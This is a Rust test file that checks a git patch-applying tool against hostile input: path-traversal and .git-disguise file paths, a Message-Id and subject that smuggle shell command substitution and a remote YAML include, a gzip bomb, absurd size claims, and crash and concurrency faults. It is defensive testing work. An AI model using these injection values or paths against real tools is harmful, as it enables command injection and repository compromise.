//! Hostile input, faults and concurrency, end to end through `git patchew apply`:
//! unsafe paths are refused (exit 2, one line naming patch and path, no ref), strangers'
//! strings stay data, a crash at any step leaves no ref and a repository that
//! `git fsck --strict` accepts, two runs at once never corrupt or lose a ref, and huge
//! or absurd input ends with a clear error or success within bounded memory and time.
//!
//! The heaviest case (a 200 MB mbox) runs only with `GIT_PATCHEW_HEAVY=1`; see
//! contrib/hostile-heavy.sh, which runs it against the release binary.

use crate::support;

use std::io::{BufRead, BufReader, Write};
use std::os::unix::process::ExitStatusExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use support::git::{stderr, stdout, TestRepo, ENV};
use support::mail::Mail;
use support::process::output_within;

const INCLUDE: &str = "https://ci-hub.example.org/patchew/patchew-ci.yml";

/// A repository with a CI file, a symlink and a `.gitmodules`, for patches to touch.
fn base_repo() -> TestRepo {
    let r = TestRepo::new();
    r.write("f.txt", "one\ntwo\n");
    r.write(".gitlab-ci.yml", "build:\n  script: [make]\n");
    r.write(".gitmodules", "");
    std::os::unix::fs::symlink("f.txt", r.path.join("link")).unwrap();
    r.commit("base");
    r
}

/// One mail in mbox form, From_ line included.
fn mail(subject: &str, msgid: &str, diff: &str) -> String {
    Mail::new(subject)
        .msgid(msgid)
        .body("Hostile.")
        .diff(diff)
        .mbox()
}

/// A diff creating `path` (as it appears in the headers, maybe C-quoted) with `mode`.
fn creation(path_a: &str, path_b: &str, mode: &str, line: &str) -> String {
    format!(
        "diff --git {path_a} {path_b}\n\
         new file mode {mode}\n\
         --- /dev/null\n\
         +++ {path_b}\n\
         @@ -0,0 +1 @@\n\
         +{line}\n"
    )
}

/// `a/<p>` and `b/<p>`, C-quoted as a whole when `quoted`.
fn names(p: &str, quoted: bool) -> (String, String) {
    if quoted {
        (format!("\"a/{p}\""), format!("\"b/{p}\""))
    } else {
        (format!("a/{p}"), format!("b/{p}"))
    }
}

fn write_mbox(r: &TestRepo, name: &str, content: &[u8]) -> PathBuf {
    let p = r.scratch(name);
    std::fs::write(&p, content).unwrap();
    p
}

fn apply(r: &TestRepo, mbox: &Path, extra: &[&str]) -> Output {
    let mut args = vec!["apply", "--mbox", mbox.to_str().unwrap()];
    args.extend_from_slice(extra);
    r.patchew(&r.path, &args)
}

fn refs(r: &TestRepo) -> String {
    r.git(&["for-each-ref"])
}

/// `git fsck --strict` passes (dangling objects are fine: they are what a failed or
/// killed run leaves, and `git gc` collects them).
fn assert_fsck_clean(r: &TestRepo) {
    let out = r
        .command("git", &r.path)
        .args(["fsck", "--strict", "--no-dangling", "--no-progress"])
        .output()
        .unwrap();
    assert!(
        out.status.success() && out.stderr.is_empty(),
        "git fsck --strict: {}{}",
        String::from_utf8_lossy(&out.stdout),
        stderr(&out)
    );
}

/// Exit 2, one line naming patch 1 and `path_shown`, no ref changed, fsck clean.
fn assert_refused(r: &TestRepo, out: &Output, before: &str, path_shown: &str, what: &str) {
    let err = stderr(out);
    assert_eq!(out.status.code(), Some(2), "{what}: {err}");
    assert_eq!(
        err.trim().lines().count(),
        1,
        "{what}: one-line error: {err}"
    );
    assert!(err.contains("patch 1/1"), "{what}: names the patch: {err}");
    assert!(
        err.contains(path_shown),
        "{what}: names {path_shown:?}: {err}"
    );
    assert_eq!(refs(r), before, "{what}: no ref may change");
    assert_fsck_clean(r);
}

#[test]
fn paths_git_fsck_refuses_are_refused() {
    let r = base_repo();
    let before = refs(&r);
    // (path as written in the diff, quoted?, fragment the error must show, mode)
    let cases: &[(&str, bool, &str, &str)] = &[
        (".git/config", false, ".git/config", "100644"),
        (".GIT/hooks/pre-commit", false, ".GIT/hooks", "100644"),
        (".git./config", false, ".git./config", "100644"),
        (".Git. . /x", false, ".Git. . /x", "100644"),
        ("sub/git~1/config", false, "git~1", "100644"),
        ("GIT~1/x", false, "GIT~1", "100644"),
        (
            ".git::$INDEX_ALLOCATION/x",
            false,
            "INDEX_ALLOCATION",
            "100644",
        ),
        // HFS+ ignorable code points: U+200C (quoted, as git writes it) and U+FEFF raw.
        (".g\\342\\200\\214it/config", true, "it/config", "100644"),
        ("\u{feff}.git/x", false, ".git/x", "100644"),
        // Invalid UTF-8 ends the name for HFS+ (git's next_hfs_char).
        (".git\\377/x", true, "/x", "100644"),
        // A backslash is a directory separator on Windows.
        ("a\\\\.git\\\\config", true, "config", "100644"),
        ("../escape", false, "../escape", "100644"),
        ("a/../../escape", false, "escape", "100644"),
        ("./x", false, "./x", "100644"),
        ("a/./b", false, "a/./b", "100644"),
        // git's own parser refuses this one first ("inconsistent new filename").
        ("a//b", false, "patch line", "100644"),
        ("/etc/passwd", false, "/etc/passwd", "100644"),
        // Refused by the diff parser already.
        ("x\\000y", true, "NUL", "100644"),
        // .gitmodules: never a symlink, nor a directory, whatever its disguise.
        ("x/.gitmodules", false, "x/.gitmodules", "120000"),
        ("sub/.GitModules", false, ".GitModules", "120000"),
        ("sub/.gitmodules. ", false, ".gitmodules", "120000"),
        ("sub/GITMOD~1", false, "GITMOD~1", "120000"),
        ("sub/gi7eba~3", false, "gi7eba~3", "120000"),
        (
            "sub/.g\\342\\200\\214itmodules",
            true,
            "itmodules",
            "120000",
        ),
        ("sub/.gitmodules/x", false, ".gitmodules/x", "100644"),
        ("sub/.gitattributes", false, ".gitattributes", "120000"),
    ];
    for (i, (p, quoted, shown, mode)) in cases.iter().enumerate() {
        let (a, b) = names(p, *quoted);
        let diff = creation(&a, &b, mode, "payload");
        let msgid = format!("path{i}@evil");
        let mbox = write_mbox(&r, "p.mbox", mail("[PATCH] evil", &msgid, &diff).as_bytes());
        let out = apply(&r, &mbox, &["--no-ci"]);
        assert_refused(&r, &out, &before, shown, p);
    }
}

#[test]
fn gitmodules_cannot_become_a_symlink_by_rename_or_mode_change() {
    let r = base_repo();
    let before = refs(&r);
    let rename = "diff --git a/link b/.gitmodules\n\
                  similarity index 100%\n\
                  rename from link\n\
                  rename to .gitmodules\n";
    let remove = "diff --git a/.gitmodules b/.gitmodules\n\
                  deleted file mode 100644\n\
                  index e69de29..0000000\n";
    let mode = "diff --git a/.gitmodules b/.gitmodules\n\
                old mode 100644\n\
                new mode 120000\n";
    for (what, diff) in [
        ("rename", format!("{remove}{rename}")),
        ("mode change", mode.to_owned()),
    ] {
        let mbox = write_mbox(
            &r,
            "p.mbox",
            mail("[PATCH] sneaky", "s@x", &diff).as_bytes(),
        );
        let out = apply(&r, &mbox, &["--no-ci"]);
        assert_refused(&r, &out, &before, ".gitmodules", what);
        assert!(stderr(&out).contains("symlink"), "{what}: {}", stderr(&out));
    }
}

#[test]
fn gitattributes_fsck_would_refuse_is_refused() {
    let r = base_repo();
    let before = refs(&r);
    let long = "x".repeat(3000);
    let diff = creation("a/.gitattributes", "b/.gitattributes", "100644", &long);
    let mbox = write_mbox(&r, "p.mbox", mail("[PATCH] attrs", "a@x", &diff).as_bytes());
    let out = apply(&r, &mbox, &["--no-ci"]);
    assert_refused(&r, &out, &before, ".gitattributes", "long line");
}

#[test]
fn hostile_message_id_and_subject_stay_data() {
    let r = base_repo();
    let dir = tempfile::tempdir().unwrap();
    let marker = dir.path().join("pwned");
    let m = marker.display();
    // Quotes, command substitution, backticks, YAML and URL specials; an encoded
    // newline and CR in the subject.
    // No '>' inside: RFC 5322 forbids it in an id, and a header's id ends at the
    // first one (Gnus appends "(message from X <x@y>)").
    let msgid = format!("$(touch {m})`touch {m}`'\"#:&*!|%{{}}[]?@evil.lock");
    let msgid = msgid.replace(' ', "${IFS}");
    let subject = "=?utf-8?q?=5BPATCH=5D_x=0A=0Dinclude:_-_remote:_'http://evil/x.yml'_$(id)?=";
    let diff = "diff --git a/f.txt b/f.txt\n\
                --- a/f.txt\n\
                +++ b/f.txt\n\
                @@ -1,2 +1,2 @@\n\
                \x20one\n\
                -two\n\
                +2\n";
    let mbox = write_mbox(&r, "p.mbox", mail(subject, &msgid, diff).as_bytes());
    let out = apply(&r, &mbox, &["--ci-include", INCLUDE, "--json", "-v"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(!marker.exists(), "a command ran");
    // stderr: every line is one of ours (the subject's newline did not split one).
    for line in stderr(&out).lines() {
        assert!(
            line.starts_with("Applying: ") || line.starts_with("warning: ") || line.is_empty(),
            "stray stderr line {line:?}"
        );
    }
    let report: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    let tag = report["tag"].as_str().unwrap().to_owned();
    // A valid ref name that decodes back to the id.
    let check = r
        .command("git", &r.path)
        .args(["check-ref-format", &format!("refs/tags/{tag}")])
        .output()
        .unwrap();
    assert!(check.status.success(), "{tag}");
    let component = tag.strip_prefix("patchew/").unwrap();
    let decoded = git_patchew::input::msgid::MessageId::from_ref_component(component).unwrap();
    assert_eq!(decoded.as_str(), msgid);
    let head = r.git(&["rev-parse", &format!("refs/tags/{tag}^{{commit}}")]);
    // The commit subject is one line; the YAML got our include and nothing else.
    let message = r.git(&["log", "-1", "--format=%B", &format!("{head}~1")]);
    assert!(
        message.lines().next().unwrap().contains("include:"),
        "{message}"
    );
    let ci = r.git(&["show", &format!("{head}:.gitlab-ci.yml")]);
    assert_eq!(
        ci,
        format!("include:\n  - remote: '{INCLUDE}'\nbuild:\n  script: [make]")
    );
    assert!(!ci.contains("evil"));
    assert_fsck_clean(&r);
}

#[test]
fn message_id_too_long_for_a_ref_file_is_a_clear_error() {
    let r = base_repo();
    let before = refs(&r);
    let diff = creation("a/new.txt", "b/new.txt", "100644", "x");
    let msgid = format!("{}@x", "a".repeat(300));
    let mbox = write_mbox(&r, "p.mbox", mail("[PATCH] long", &msgid, &diff).as_bytes());
    let out = apply(&r, &mbox, &["--no-ci"]);
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains("too long") && err.contains("302 bytes"),
        "{err}"
    );
    assert_eq!(err.trim().lines().count(), 1, "{err}");
    assert_eq!(refs(&r), before);
    // With --no-tag the series still applies: the limit is the tag's, not the id's.
    let out = apply(&r, &mbox, &["--no-ci", "--no-tag"]);
    assert!(out.status.success(), "{}", stderr(&out));
}

/// A series of `n` patches, each adding one file.
fn series(n: usize, msgid_prefix: &str) -> String {
    (1..=n)
        .map(|i| {
            let p = format!("d{}/f{i}.txt", i % 50);
            let diff = creation(&format!("a/{p}"), &format!("b/{p}"), "100644", "x");
            mail(
                &format!("[PATCH {i}/{n}] add {p}"),
                &format!("{msgid_prefix}{i}@x"),
                &diff,
            )
        })
        .collect()
}

/// The last patch changes the CI file, so the run writes: blobs and trees and commits,
/// then a CI commit, then the ref: every fault point is reached.
fn fault_series() -> String {
    let mut s = series(3, "f");
    let ci = "diff --git a/.gitlab-ci.yml b/.gitlab-ci.yml\n\
              --- a/.gitlab-ci.yml\n\
              +++ b/.gitlab-ci.yml\n\
              @@ -1,2 +1,3 @@\n\
              \x20build:\n\
              \x20  script: [make]\n\
              +  tags: [x]\n";
    s = s.replace("/3]", "/4]");
    s.push_str(&mail("[PATCH 4/4] ci", "f4@x", ci));
    s
}

#[test]
fn a_crash_at_any_step_leaves_no_ref_and_a_sound_repository() {
    let r = base_repo();
    let before = refs(&r);
    let mbox = write_mbox(&r, "s.mbox", fault_series().as_bytes());
    for point in [
        "before-patch:1",
        "before-patch:3",
        "after-commits",
        "before-refs",
    ] {
        let out = r
            .command(env!("CARGO_BIN_EXE_git-patchew"), &r.path)
            .args(["apply", "--mbox", mbox.to_str().unwrap()])
            .args(["--ci-include", INCLUDE])
            .env("GIT_PATCHEW_FAULT", point)
            .stdin(Stdio::null())
            .output()
            .unwrap();
        assert_eq!(out.status.code(), None, "{point}: killed: {}", stderr(&out));
        assert!(stderr(&out).contains(point), "{point}: {}", stderr(&out));
        assert_eq!(refs(&r), before, "{point}: a ref appeared");
        assert_fsck_clean(&r);
    }
    // A crash right after the ref transaction: the ref is whole, fsck still clean.
    let out = r
        .command(env!("CARGO_BIN_EXE_git-patchew"), &r.path)
        .args(["apply", "--mbox", mbox.to_str().unwrap()])
        .args(["--ci-include", INCLUDE])
        .env("GIT_PATCHEW_FAULT", "after-refs")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), None);
    let tip = r.git(&["rev-parse", "refs/tags/patchew/f1@x"]);
    assert_eq!(r.git(&["rev-list", "--count", &tip]), "6");
    assert_fsck_clean(&r);
}

#[test]
fn sigkill_at_random_times_never_leaves_a_partial_ref() {
    let r = base_repo();
    let before = refs(&r);
    let mbox = write_mbox(&r, "s.mbox", series(300, "k").as_bytes());
    // How long a whole run takes here, to spread the kills over it: a run like the
    // killed ones, after a first that wrote the objects (which made it several
    // times slower, so that most kills used to land after the end).
    let out = apply(&r, &mbox, &["--no-ci", "--no-tag"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let t = Instant::now();
    let out = apply(&r, &mbox, &["-v", "--no-ci", "--no-tag"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let full = t.elapsed();
    let mut seed = 0x2545_f491_4f6c_dd1d_u64;
    let (mut tagged, mut mid_run) = (0, 0);
    for round in 0..12 {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        // Between 5 % and 95 % of a whole run.
        let delay = full.mul_f64(0.05 + (seed % 1000) as f64 / 1000.0 * 0.9);
        let mut child = r
            .command(env!("CARGO_BIN_EXE_git-patchew"), &r.path)
            .args([
                "apply",
                "-v",
                "--mbox",
                mbox.to_str().unwrap(),
                "--no-ci",
                "--force",
            ])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        // Its `Applying:` lines say how far it got when the kill landed.
        let progress = child.stderr.take().unwrap();
        let reader = std::thread::spawn(move || {
            BufReader::new(progress)
                .lines()
                .map_while(Result::ok)
                .filter(|l| l.starts_with("Applying: "))
                .count()
        });
        std::thread::sleep(delay);
        let _ = child.kill(); // SIGKILL; fails only when the run has already finished
        let status = child.wait().unwrap();
        // The pipe closes with the process: the reader ends.
        let applied = reader.join().unwrap();
        if status.signal() == Some(9) && applied > 0 {
            mid_run += 1;
        }
        let tag = r
            .command("git", &r.path)
            .args(["rev-parse", "-q", "--verify", "refs/tags/patchew/k1@x"])
            .output()
            .unwrap();
        if tag.status.success() {
            // Either the whole series or nothing: the ref never points at a prefix.
            let tip = String::from_utf8(tag.stdout).unwrap();
            let count = r.git(&["rev-list", "--count", tip.trim()]);
            assert_eq!(count, "301", "round {round}: partial series tagged");
            tagged += 1;
        } else {
            assert_eq!(refs(&r), before, "round {round} ({status:?}): stray ref");
        }
        // A kill inside the ref transaction may leave the lock file behind, as a
        // killed git does; later runs report it (see the lock test), here we clear it.
        let _ = std::fs::remove_file(r.path.join(".git/refs/tags/patchew/k1@x.lock"));
        assert_fsck_clean(&r);
    }
    eprintln!("{mid_run} of 12 kills landed mid-run; the tag was there after {tagged} rounds");
    // Kills that all missed (runs over before, or not yet applying) would prove
    // nothing about partial refs.
    assert!(
        mid_run >= 4,
        "only {mid_run} of 12 kills landed while patches were being applied"
    );
}

#[test]
fn two_runs_at_once_give_one_whole_tag_and_a_clean_error() {
    let r = base_repo();
    let mbox = write_mbox(&r, "s.mbox", series(40, "c").as_bytes());
    for round in 0..4 {
        let _ = r
            .command("git", &r.path)
            .args(["tag", "-d", "patchew/c1@x"])
            .output();
        let spawn = || {
            r.command(env!("CARGO_BIN_EXE_git-patchew"), &r.path)
                .args(["apply", "--mbox", mbox.to_str().unwrap(), "--no-ci"])
                .stdin(Stdio::null())
                .stdout(Stdio::piped())
                .stderr(Stdio::piped())
                .spawn()
                .unwrap()
        };
        let (a, b) = (spawn(), spawn());
        let limit = Duration::from_secs(120);
        let outs = [output_within(a, limit), output_within(b, limit)];
        let ok: Vec<_> = outs.iter().filter(|o| o.status.success()).collect();
        assert!(!ok.is_empty(), "round {round}: neither run succeeded");
        for o in outs.iter().filter(|o| !o.status.success()) {
            let err = stderr(o);
            assert_eq!(o.status.code(), Some(1), "round {round}: {err}");
            assert_eq!(err.trim().lines().count(), 1, "{err}");
            assert!(err.contains("refs/tags/patchew/c1@x"), "{err}");
            assert!(
                err.contains("already exists") || err.contains("another process"),
                "round {round}: unclear error: {err}"
            );
        }
        // The tag holds the whole series of one of the winners.
        let tip = r.git(&["rev-parse", "refs/tags/patchew/c1@x^{commit}"]);
        let winners: Vec<String> = ok.iter().map(|o| stdout(o).trim().to_owned()).collect();
        assert!(
            winners.contains(&tip),
            "round {round}: {tip} not from a winner"
        );
        assert_eq!(r.git(&["rev-list", "--count", &tip]), "41");
        assert_fsck_clean(&r);
    }
}

#[test]
fn a_held_ref_lock_gives_a_clear_error() {
    let r = base_repo();
    let before = refs(&r);
    let mbox = write_mbox(&r, "s.mbox", series(2, "l").as_bytes());
    let lock = r.path.join(".git/refs/tags/patchew/l1@x.lock");
    std::fs::create_dir_all(lock.parent().unwrap()).unwrap();
    std::fs::write(&lock, "").unwrap();
    let out = apply(&r, &mbox, &["--no-ci"]);
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert_eq!(err.trim().lines().count(), 1, "{err}");
    assert!(err.contains("lock"), "{err}");
    assert!(
        err.contains(lock.to_str().unwrap()),
        "names the lock file: {err}"
    );
    std::fs::remove_file(&lock).unwrap();
    assert_eq!(refs(&r), before);
    assert_fsck_clean(&r);
    assert!(apply(&r, &mbox, &["--no-ci"]).status.success());
}

/// `git patchew ARGS` in `dir`, with its peak RSS (KiB) measured by /usr/bin/time
/// (`None` where it is not installed: the exit code is still checked; under CI that
/// fails) and its wall time.
fn measured(r: &TestRepo, args: &[&str], stdin: Option<&[u8]>) -> (Output, Option<u64>, Duration) {
    let timed = support::require::require_tool("/usr/bin/time");
    let rss_file = r.scratch("rss");
    let t = Instant::now();
    let mut command = if timed {
        let mut c = Command::new("/usr/bin/time");
        c.arg("-o")
            .arg(&rss_file)
            .args(["-f", "%M"])
            .arg(env!("CARGO_BIN_EXE_git-patchew"));
        c
    } else {
        Command::new(env!("CARGO_BIN_EXE_git-patchew"))
    };
    let mut child = command
        .args(args)
        .current_dir(&r.path)
        .envs(ENV.iter().copied())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut input = child.stdin.take().unwrap();
    if let Some(data) = stdin {
        let _ = input.write_all(data);
    }
    drop(input);
    let out = child.wait_with_output().unwrap();
    let elapsed = t.elapsed();
    let rss = timed.then(|| {
        std::fs::read_to_string(&rss_file)
            .unwrap()
            .lines()
            .last()
            .unwrap()
            .trim()
            .parse()
            .unwrap()
    });
    (out, rss, elapsed)
}

/// Peak RSS must stay under `factor` times the input plus 100 MB. The time is only
/// printed: speed limits live in contrib/bench-hostile.sh, not in tests.
fn assert_bounded(what: &str, rss_kib: Option<u64>, input: u64, factor: u64, took: Duration) {
    let Some(rss_kib) = rss_kib else {
        return;
    };
    let bound = factor * input + (100 << 20);
    eprintln!(
        "{what}: peak RSS {} MB for {} MB of input, {took:?}",
        rss_kib >> 10,
        input >> 20
    );
    assert!(
        rss_kib * 1024 < bound,
        "{what}: {} KiB > {bound} bytes",
        rss_kib
    );
}

/// Issue 16's memory bound for one huge patch: peak RSS at most twice the mbox plus a
/// constant, the process's own (about 20 MB for this debug build). Before the
/// content was streamed into the object database, the diff's per-line records and
/// the assembled new content put both cases at 2.5-2.8x.
fn assert_at_most_twice(what: &str, rss_kib: Option<u64>, input: u64, took: Duration) {
    let Some(rss_kib) = rss_kib else {
        return;
    };
    let bound = 2 * input + (32 << 20);
    eprintln!(
        "{what}: peak RSS {} MB for {} MB of input, {took:?}",
        rss_kib >> 10,
        input >> 20
    );
    assert!(
        rss_kib * 1024 <= bound,
        "{what}: {} KiB > 2 x {input} bytes + 32 MiB",
        rss_kib
    );
}

/// A generated text line of 48 bytes, as contrib/bench-memory.sh writes them: short
/// lines make the per-line bookkeeping count.
fn generated_line(n: usize, tag: &str) -> String {
    format!("{tag:<6} line {n:>9} of generated text.............\n")
}

fn big_mbox_size() -> usize {
    if std::env::var_os("GIT_PATCHEW_HEAVY").is_some() {
        200
    } else {
        64
    }
}

/// Applies the mbox at `mbox` on `r` with `--no-tag`, measured, and checks that the
/// streamed `big.txt` is the file at `expected` and that `git fsck --strict` passes.
fn assert_applies_big_txt(r: &TestRepo, mbox: &Path, what: &str, expected: &Path) {
    let size = std::fs::metadata(mbox).unwrap().len();
    let (out, rss, took) = measured(
        r,
        &[
            "apply",
            "--mbox",
            mbox.to_str().unwrap(),
            "--no-ci",
            "--no-tag",
        ],
        None,
    );
    assert!(out.status.success(), "{}", stderr(&out));
    assert_at_most_twice(what, rss, size, took);
    let head = stdout(&out).trim().to_owned();
    assert_eq!(
        r.git(&["rev-parse", &format!("{head}:big.txt")]).trim(),
        r.git(&["hash-object", expected.to_str().unwrap()]).trim(),
        "{what}: the streamed blob is the expected file"
    );
    assert_fsck_clean(r);
}

#[test]
fn one_patch_creating_a_huge_file_applies_in_at_most_twice_the_mbox() {
    let r = base_repo();
    let lines = big_mbox_size() * (1 << 20) / 48;
    let expected = r.scratch("big.txt");
    let mbox = r.scratch("big.mbox");
    let mut want = std::io::BufWriter::new(std::fs::File::create(&expected).unwrap());
    let mut w = std::io::BufWriter::new(std::fs::File::create(&mbox).unwrap());
    let head = mail("[PATCH] big", "big@x", "").replace("-- \n2.43.0\n\n", "");
    write!(
        w,
        "{head}diff --git a/big.txt b/big.txt\nnew file mode 100644\n--- /dev/null\n+++ b/big.txt\n@@ -0,0 +1,{lines} @@\n"
    )
    .unwrap();
    for n in 0..lines {
        let line = generated_line(n, "new");
        write!(w, "+{line}").unwrap();
        want.write_all(line.as_bytes()).unwrap();
    }
    w.write_all(b"-- \n2.43.0\n").unwrap();
    w.flush().unwrap();
    want.flush().unwrap();
    drop((w, want));
    assert_applies_big_txt(&r, &mbox, "one patch creating a file", &expected);
}

#[test]
fn one_patch_rewriting_a_huge_file_applies_in_at_most_twice_the_mbox() {
    let r = base_repo();
    // The diff of every other line changed is about twice the file.
    let lines = big_mbox_size() * (1 << 20) / 2 / 48;
    let old = r.path.join("big.txt");
    let expected = r.scratch("big.txt");
    let mut before = std::io::BufWriter::new(std::fs::File::create(&old).unwrap());
    let mut after = std::io::BufWriter::new(std::fs::File::create(&expected).unwrap());
    let mut diff = String::new();
    for n in 0..lines {
        let line = generated_line(n, "text");
        before.write_all(line.as_bytes()).unwrap();
        if n % 2 == 0 {
            let changed = generated_line(n, "change");
            after.write_all(changed.as_bytes()).unwrap();
            diff.push_str(&format!("-{line}+{changed}"));
        } else {
            after.write_all(line.as_bytes()).unwrap();
            diff.push_str(&format!(" {line}"));
        }
    }
    before.flush().unwrap();
    after.flush().unwrap();
    drop((before, after));
    r.git(&["add", "big.txt"]);
    r.git(&["commit", "-qm", "big file"]);
    let diff = format!(
        "diff --git a/big.txt b/big.txt\n--- a/big.txt\n+++ b/big.txt\n@@ -1,{lines} +1,{lines} @@\n{diff}"
    );
    let mbox = r.scratch("rewrite.mbox");
    std::fs::write(&mbox, mail("[PATCH] rewrite", "rewrite@x", &diff)).unwrap();
    drop(diff);
    assert_applies_big_txt(&r, &mbox, "one patch rewriting a file", &expected);
}

#[test]
fn mbox_over_the_size_cap_is_refused_before_reading_it_all() {
    let r = base_repo();
    // A sparse file: 300 MB claimed, no disk used.
    let p = r.scratch("huge.mbox");
    let f = std::fs::File::create(&p).unwrap();
    f.set_len(300 << 20).unwrap();
    let (out, rss, took) = measured(
        &r,
        &["apply", "--mbox", p.to_str().unwrap(), "--no-ci"],
        None,
    );
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("larger than"), "{err}");
    assert_bounded("300 MB file", rss, 256 << 20, 2, took);
}

#[test]
fn gzip_bomb_mbox_is_refused_in_bounded_memory() {
    let r = base_repo();
    // 1 GiB of zeros compresses to about 1 MB.
    let p = r.scratch("bomb.mbox.gz");
    let mut enc = flate2::write::GzEncoder::new(
        std::fs::File::create(&p).unwrap(),
        flate2::Compression::best(),
    );
    let zeros = vec![0u8; 1 << 20];
    for _ in 0..1024 {
        enc.write_all(&zeros).unwrap();
    }
    enc.finish().unwrap();
    let (out, rss, took) = measured(
        &r,
        &["apply", "--mbox", p.to_str().unwrap(), "--no-ci"],
        None,
    );
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("zip bomb"), "{err}");
    // The cap (256 MiB) is the bound: never the claimed 1 GiB.
    assert_bounded("gzip bomb", rss, 256 << 20, 2, took);
}

#[test]
fn too_many_messages_is_a_clear_error() {
    let r = base_repo();
    let one = mail("[PATCH] x", "m@x", "");
    let mbox: String = one.repeat(10_001);
    let p = write_mbox(&r, "many.mbox", mbox.as_bytes());
    let out = apply(&r, &p, &["--no-ci"]);
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("more than 10000 messages"), "{err}");
}

#[test]
fn ten_thousand_patch_series_applies_in_bounded_memory_and_time() {
    // 10,000 patches take 9 s with the release binary but 80 s with the debug one
    // the tests use: 1,000 by default, 10,000 under GIT_PATCHEW_HEAVY.
    let n = if std::env::var_os("GIT_PATCHEW_HEAVY").is_some() {
        10_000
    } else {
        1_000
    };
    let r = base_repo();
    let mbox = series(n, "t");
    let p = write_mbox(&r, "t.mbox", mbox.as_bytes());
    let (out, rss, took) = measured(
        &r,
        &["apply", "--mbox", p.to_str().unwrap(), "--no-ci"],
        None,
    );
    assert!(out.status.success(), "{}", stderr(&out));
    assert_bounded(&format!("{n} patches"), rss, mbox.len() as u64, 20, took);
    let tip = r.git(&["rev-parse", "refs/tags/patchew/t1@x"]);
    assert_eq!(r.git(&["rev-list", "--count", &tip]), (n + 1).to_string());
}

#[test]
fn absurd_claims_are_refused_without_allocating_them() {
    let r = base_repo();
    let before = refs(&r);
    let literal = "diff --git a/b.bin b/b.bin\n\
                   new file mode 100644\n\
                   index 0000000..1111111\n\
                   GIT binary patch\n\
                   literal 1073741824\n\
                   zcmV?d00001\n\n\
                   literal 0\n\
                   HcmV?d00001\n\n";
    let hunk = "diff --git a/f.txt b/f.txt\n\
                --- a/f.txt\n\
                +++ b/f.txt\n\
                @@ -1,2147483648 +1,2147483648 @@\n\
                \x20one\n\
                -two\n\
                +2\n";
    let total = "diff --git a/n.txt b/n.txt\nnew file mode 100644\n--- /dev/null\n+++ b/n.txt\n@@ -0,0 +1 @@\n+x\n";
    let mut nested = String::from("Content-Type: text/plain\n\n");
    for i in 0..200 {
        nested = format!(
            "Content-Type: multipart/mixed; boundary=\"=_{i:03}_=\"\n\n--=_{i:03}_=\n{nested}\n--=_{i:03}_=--\n"
        );
    }
    let deep = format!(
        "From 0000000000000000000000000000000000000000 Mon Sep 17 00:00:00 2001\n\
         From: A U Thor <author@example.com>\nSubject: [PATCH] deep\nMessage-Id: <deep@x>\n\
         MIME-Version: 1.0\n{nested}"
    );
    let cases: [(&str, String, &str); 4] = [
        (
            "1 GiB literal",
            mail("[PATCH] bin", "b@x", literal),
            "size limit",
        ),
        (
            "2^31-line hunk",
            mail("[PATCH] hunk", "h@x", hunk),
            "patch 1/1",
        ),
        (
            "[PATCH 1/2^64-1]",
            mail("[PATCH 1/18446744073709551615] n", "n@x", total),
            "claims",
        ),
        // mail.rs caps nesting at 4 (its unit tests); this shape never descends and
        // reads as a mail without a patch: exit 3, also fine.
        ("MIME nested 200 deep", deep, "no patch"),
    ];
    for (what, mbox, expect) in cases {
        let p = write_mbox(&r, "a.mbox", mbox.as_bytes());
        let out = apply(&r, &p, &["--no-ci"]);
        let err = stderr(&out);
        assert!(matches!(out.status.code(), Some(1..=3)), "{what}: {err}");
        assert_eq!(err.trim().lines().count(), 1, "{what}: {err}");
        assert!(err.contains(expect), "{what}: {err}");
        assert_eq!(refs(&r), before, "{what}");
    }
}
